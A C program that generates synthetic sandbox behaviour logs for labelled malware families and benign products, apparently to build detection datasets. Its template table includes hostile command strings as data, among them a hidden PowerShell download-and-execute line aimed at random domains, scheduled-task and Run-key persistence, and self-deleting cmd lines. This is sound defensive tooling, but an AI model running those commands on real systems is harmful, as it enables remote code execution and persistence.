/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * Behaviour logs by chance, in the plain form: families of malware and harmless software, from a model of how they behave.
 *
 * usage: behaviour SEED FAMILIES MALWARE BENIGN DAYS
 *
 * A family has 6 to 12 behaviours: a kind, a template with words of its own and holes (random words of several alphabets and lengths,
 * numbers, GUIDs, hashes, user and host names, dates, versions). Two of three behaviours drift: their own words change 1 to 4 times in
 * the family's part of the time, each behaviour at moments of its own, and the old words do not come back; the others stay. A sample
 * shows each behaviour with its own probability; one in 100 shows none (it waited, or saw the sandbox). Paths go through the victim's
 * profile.
 * Every sample, harmless or not, also does what ordinary programs do: files, keys, names and commands of a shared pool with a long
 * tail (copied behaviour). Harmless software is made of products: each with its own words, with the same kinds of places and holes as
 * malware (hard negatives: updaters under the profile, start keys, scheduled tasks, random names), and versions. Some behaviours of
 * families stand in the shared pool too, so that each alone is seen in harmless samples and only several together are the family's.
 */
#include <inttypes.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

enum { BEHAVIOURS_MAX = 14, VERSIONS_MAX = 5, COMMON = 900, PRODUCTS = 400, TEXT = 400 };

static uint64_t state;

static uint64_t next(void)
{
	uint64_t z = (state += UINT64_C(0x9e3779b97f4a7c15));

	z = (z ^ (z >> 30)) * UINT64_C(0xbf58476d1ce4e5b9);
	z = (z ^ (z >> 27)) * UINT64_C(0x94d049bb133111eb);
	return z ^ (z >> 31);
}

static unsigned below(unsigned n)
{
	return (unsigned)(next() % n);
}

static double share(void)
{
	return (double)(next() >> 11) / 9007199254740992.0;
}

static const char *pick(const char *const *list, size_t count)
{
	return list[below((unsigned)count)];
}

#define PICK(list) pick(list, sizeof(list) / sizeof((list)[0]))

static const char *const syllables[] = { "ka", "to", "mi", "re", "sol", "ven", "dar", "lu", "pro", "tek", "nor", "vi", "sta", "qu", "ox",
	"ba", "zen", "fir", "gal", "mar", "pen", "rit", "sys", "net", "dro", "plex", "cor", "hub", "wi", "jo" };
static const char *const users[] = { "John", "admin", "Maria Lopez", "WDAGUtilityAccount", "user1", "k.tanaka", "Petra", "sandbox", "lab",
	"Emma", "j.smith", "Public1", "olga", "test", "Dieter", "cuckoo" };
static const char *const hosts[] = { "DESKTOP-4KQ2", "WIN7-PC", "LAB-03", "FINANCE-11", "DESKTOP-9TRE1", "ANALYSIS", "SRV-APP2", "HR-LT-77" };
static const char *const endings[] = { "exe", "dll", "dat", "tmp", "scr", "js", "vbs", "ini", "log", "bin", "cfg" };
static const char *const domains[] = { "com", "net", "org", "info", "top", "xyz", "ru", "biz" };

/* Templates: W a word that is the behaviour's own, w the second, e an ending of its own; holes begin with a backquote. */
struct template {
	const char *kind, *action, *text;
};
static const struct template templates[] = {
	{ "file", "create", "C:\\Users\\`U\\AppData\\Roaming\\W\\`a6.exe" }, { "file", "write", "C:\\Users\\`U\\AppData\\Local\\Temp\\W`n4.e" },
	{ "file", "create", "C:\\Users\\`U\\AppData\\Roaming\\`b8\\W.e" }, { "file", "write", "C:\\ProgramData\\W\\w.e" },
	{ "file", "create", "C:\\Windows\\Temp\\W_`h8.e" }, { "file", "create", "C:\\ProgramData\\`G\\W.e" },
	{ "file", "delete", "C:\\Users\\`U\\Documents\\W-`D.e" }, { "file", "write", "C:\\Users\\`U\\AppData\\Local\\`a7\\`a5W.e" },
	{ "file", "rename", "C:\\Users\\`U\\Pictures\\`a6.jpg.W" }, { "file", "create", "C:\\Windows\\System32\\W`a3.dll" },
	{ "registry", "set", "HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\W" },
	{ "registry", "set", "HKCU\\Software\\W\\`h8" }, { "registry", "set", "HKEY_LOCAL_MACHINE\\SYSTEM\\ControlSet001\\Services\\W`n3\\ImagePath" },
	{ "registry", "set", "HKEY_USERS\\S-1-5-21-`n9-`n9-`n9-1001\\Software\\Classes\\CLSID\\{`G}\\W" },
	{ "registry", "set", "HKEY_LOCAL_MACHINE\\Software\\WOW6432Node\\W\\w" },
	{ "mutex", "create", "Global\\W`h6" }, { "mutex", "create", "W" }, { "mutex", "create", "`h4W`h4" }, { "mutex", "create", "Local\\W-`G" },
	{ "mutex", "create", "\\Sessions\\1\\BaseNamedObjects\\W_`n5" },
	{ "process", "start", "C:\\Users\\`U\\AppData\\Local\\Temp\\`a8\\W.exe" }, { "process", "start", "C:\\Windows\\`a6\\W.exe" },
	{ "command", "run", "cmd.exe /c W `n3 & del C:\\Users\\`U\\AppData\\Local\\Temp\\`a8.exe" },
	{ "command", "run", "rundll32.exe C:\\Users\\`U\\AppData\\Roaming\\`b7.dll,W" },
	{ "command", "run", "powershell -w hidden -c IEX(New-Object Net.WebClient).DownloadString('http://`a9.D/W.e')" },
	{ "command", "run", "schtasks /create /tn W`n4 /tr C:\\ProgramData\\`b8.exe /sc minute" },
	{ "command", "run", "C:\\Users\\`U\\AppData\\Roaming\\W.exe --w=`h16 --id `H" },
	{ "service", "create", "W`a4" }, { "service", "create", "W w" }, { "task", "create", "\\W\\`G" }, { "task", "create", "\\Wupd`n3" },
	{ "pipe", "create", "\\\\.\\pipe\\W`h8" }, { "pipe", "create", "\\Device\\NamedPipe\\W.`n4" },
	{ "url", "fetch", "http://`a10.D/W/w.php?id=`h16" }, { "url", "fetch", "http://W.D/`a5/`n6" }, { "url", "fetch", "https://W`n2.D/w?u=`U&h=`N&v=`V" },
	{ "url", "fetch", "http://`I/W/`x32" }, { "dns", "query", "W.D" }, { "dns", "query", "`a12.W.D" }, { "dns", "query", "W`n2.D" },
	{ "agent", "send", "W/`V (w)" }, { "agent", "send", "Mozilla/4.0 (W)" }, { "ip", "connect", "185.`n2.`n2.`n2" },
};

/* What it does, with its own words, which change with the version if it drifts. */
struct behaviour {
	const struct template *t;
	char first[VERSIONS_MAX][32], second[VERSIONS_MAX][32];
	const char *ending, *domain;
	double probability, phase;
	bool drifts;
	unsigned versions;
	int common; /* of the shared pool, -1: its own */
};

struct family {
	struct behaviour list[BEHAVIOURS_MAX];
	unsigned count;
	double from; /* of the time */
};

static struct behaviour common[COMMON];
static struct family products[PRODUCTS];

static void word(char *to, unsigned parts)
{
	to[0] = 0;
	for (unsigned i = 0; i < parts; i++)
		strcat(to, PICK(syllables));
	if (below(4) == 0)
		sprintf(to + strlen(to), "%u", below(90) + 10);
}

static void behaviour_make(struct behaviour *b, double drift)
{
	*b = (struct behaviour){ .t = &templates[below(sizeof(templates) / sizeof(templates[0]))], .ending = PICK(endings),
		.domain = PICK(domains), .probability = 0.35 + 0.65 * share(), .drifts = share() < drift, .common = -1,
		.phase = share(), .versions = 2 + below(VERSIONS_MAX - 2) };
	for (unsigned v = 0; v < VERSIONS_MAX; v++) {
		if (v > 0 && !b->drifts) {
			strcpy(b->first[v], b->first[0]);
			strcpy(b->second[v], b->second[0]);
			continue;
		}
		word(b->first[v], 2 + below(2));
		word(b->second[v], 1 + below(2));
	}
}

static void family_make(struct family *f, unsigned least, unsigned spread, double drift, double of_common)
{
	f->count = least + below(spread);
	f->from = share() * 0.3;
	for (unsigned i = 0; i < f->count; i++) {
		behaviour_make(&f->list[i], drift);
		if (share() < of_common)
			f->list[i].common = (int)below(COMMON / 20);
	}
}

static char *put_random(char *to, const char *alphabet, unsigned count)
{
	size_t n = strlen(alphabet);

	for (unsigned i = 0; i < count; i++)
		*to++ = alphabet[below((unsigned)n)];
	return to;
}

static const char hex[] = "0123456789abcdef", letters[] = "abcdefghijklmnopqrstuvwxyz", words[] = "abcdefghijklmnopqrstuvwxyz0123456789";

struct victim {
	const char *user, *host;
};

static char *put_hole(char *to, const char **at, const struct victim *v)
{
	char what = *(*at)++;
	unsigned count = (unsigned)strtoul(*at, (char **)(uintptr_t)at, 10);

	switch (what) {
	case 'U':
		return to + sprintf(to, "%s", v->user);
	case 'N':
		return to + sprintf(to, "%s", v->host);
	case 'a':
		return put_random(to, letters, count);
	case 'b':
		return put_random(to, words, count);
	case 'n':
		*to++ = hex[1 + below(9)];
		return put_random(to, "0123456789", count - 1);
	case 'h':
	case 'x':
		return put_random(to, hex, count);
	case 'H':
		return put_random(to, hex, 64);
	case 'G':
		to = put_random(to, hex, 8);
		for (int i = 0; i < 3; i++) {
			*to++ = '-';
			to = put_random(to, hex, 4);
		}
		*to++ = '-';
		return put_random(to, hex, 12);
	case 'D':
		return to + sprintf(to, "20%02u-%02u-%02u", 20 + below(6), 1 + below(12), 1 + below(28));
	case 'V':
		return to + sprintf(to, "%u.%u.%u", below(9), below(20), below(100));
	default:
		return to + sprintf(to, "%u.%u.%u.%u", 11 + below(180), below(256), below(256), 1 + below(254));
	}
}

static void fill(char *to, const struct behaviour *b, unsigned version, const struct victim *v)
{
	const char *at = b->t->text;

	while (*at != 0) {
		char c = *at++;
		bool alone = !((at > b->t->text + 1 && at[-2] >= 'a' && at[-2] <= 'z') || (*at >= 'a' && *at <= 'z' && c != 'W' && c != 'w'));

		if (c == '`')
			to = put_hole(to, &at, v);
		else if (c == 'W' && !(strncmp(at, "indows", 6) == 0 || strncmp(at, "OW6432", 6) == 0 || strncmp(at, "ebC", 3) == 0))
			to += sprintf(to, "%s", b->first[version]);
		else if (c == 'w' && alone && strncmp(at, " hidden", 7) != 0 && !(*at >= 'a' && *at <= 'z'))
			to += sprintf(to, "%s", b->second[version]);
		else if (c == 'e' && at > b->t->text + 1 && at[-2] == '.' && !(*at >= 'a' && *at <= 'z'))
			to += sprintf(to, "%s", b->ending);
		else if (c == 'D' && at > b->t->text + 1 && at[-2] == '.' && !(*at >= 'a' && *at <= 'z'))
			to += sprintf(to, "%s", b->domain);
		else
			*to++ = c;
	}
	*to = 0;
}

static bool first_artefact;

static void print_artefact(const struct behaviour *b, unsigned version, const struct victim *v)
{
	char text[TEXT * 2];

	fill(text, b, version, v);
	printf("%s{\"kind\":\"%s\",\"action\":\"%s\",\"value\":\"", first_artefact ? "" : ",", b->t->kind, b->t->action);
	for (const char *c = text; *c != 0; c++) {
		if (*c == '\\' || *c == '"')
			putchar('\\');
		putchar(*c);
	}
	fputs("\"}", stdout);
	first_artefact = false;
}

static void print_common(const struct victim *v)
{
	unsigned count = 12 + below(25);

	for (unsigned i = 0; i < count; i++) {
		double u = share();
		unsigned which = (unsigned)(u * u * u * COMMON); /* a long tail */

		print_artefact(&common[which], 0, v);
	}
}

static void print_family(const struct family *f, double at, const struct victim *v)
{
	double within = at < f->from ? 0 : (at - f->from) / (1 - f->from);

	for (unsigned i = 0; i < f->count; i++) {
		const struct behaviour *b = &f->list[i];
		unsigned version = (unsigned)(within * (b->versions - 1) + b->phase);

		if (share() >= b->probability)
			continue;
		version = version >= VERSIONS_MAX ? VERSIONS_MAX - 1 : version;
		if (b->common >= 0)
			print_artefact(&common[b->common], 0, v);
		else
			print_artefact(b, version, v);
	}
}

static void print_sample(unsigned number, int family, double at, unsigned days)
{
	struct victim v = { PICK(users), PICK(hosts) };
	static const char *const sources[] = { "sandbox-a", "sandbox-b", "endpoint" };
	time_t day = (time_t)(19000 + (int64_t)(at * days)) * 86400;
	struct tm tm;
	char date[16];

	gmtime_r(&day, &tm);
	strftime(date, sizeof(date), "%Y-%m-%d", &tm);
	printf("{\"sample\":\"%016" PRIx64 "%06x\",\"label\":\"%s\",", next(), number, family >= 0 ? "malware" : "benign");
	if (family >= 0)
		printf("\"family\":\"family%02d\",", family);
	printf("\"date\":\"%s\",\"source\":\"%s\",\"artefacts\":[", date, PICK(sources));
	first_artefact = true;
	print_common(&v);
}

int main(int argc, char **argv)
{
	unsigned families_count, malware, benign, days;
	struct family *families;

	if (argc != 6) {
		fputs("usage: behaviour SEED FAMILIES MALWARE BENIGN DAYS\n", stderr);
		return 2;
	}
	state = strtoull(argv[1], NULL, 10) * 7919 + 17;
	families_count = (unsigned)strtoul(argv[2], NULL, 10);
	malware = (unsigned)strtoul(argv[3], NULL, 10);
	benign = (unsigned)strtoul(argv[4], NULL, 10);
	days = (unsigned)strtoul(argv[5], NULL, 10);
	families = calloc(families_count + 1, sizeof(*families));
	if (families == NULL || families_count == 0)
		return 3;
	for (unsigned i = 0; i < COMMON; i++)
		behaviour_make(&common[i], 0);
	for (unsigned i = 0; i < PRODUCTS; i++)
		family_make(&products[i], 3, 8, 0.5, 0.2);
	for (unsigned i = 0; i < families_count; i++)
		family_make(&families[i], 6, 7, 0.66, 0.25);
	for (unsigned i = 0; i < malware + benign; i++) {
		/* the two are mixed, as a pool is */
		bool bad = next() % (malware + benign) < malware;
		unsigned f = below(families_count);
		double at = bad ? families[f].from + share() * (1 - families[f].from) : share();

		print_sample(i, bad ? (int)f : -1, at, days);
		if (bad && below(100) > 0)
			print_family(&families[f], at, &(struct victim){ PICK(users), PICK(hosts) });
		if (!bad)
			print_family(&products[(unsigned)(share() * share() * PRODUCTS)], at, &(struct victim){ PICK(users), PICK(hosts) });
		puts("]}");
	}
	free(families);
	return 0;
}
